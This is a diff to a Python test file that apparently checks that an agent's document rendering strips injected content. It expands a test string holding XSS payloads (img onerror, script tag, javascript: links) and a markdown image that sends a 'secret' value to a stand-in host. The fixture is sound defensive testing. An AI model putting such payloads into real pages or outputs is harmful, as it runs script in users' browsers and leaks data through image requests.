@@ -23,7 +23,10 @@ from sophia.ports.agent_runtime import ToolBox
 from sophia.testing.fakes.ticket_desk import MemoryTicketDesk
 
 QUOTED = "Keys are rotated every 90 days 🔁, without exception."
-EVIL = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
+EVIL = (
+    '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script> '
+    "![x](https://elsewhere.example/x.png?d=secret) [open](javascript:window.pwned=1) <javascript:window.pwned=1>"
+)
 DOCUMENTS = {
     # Astral characters before the quote: a code point is two UTF-16 units there.
     "keys.md": f"# 🔐 Keys 🗝️\n\n😀🧯 Read this first. {QUOTED} {EVIL}\n",
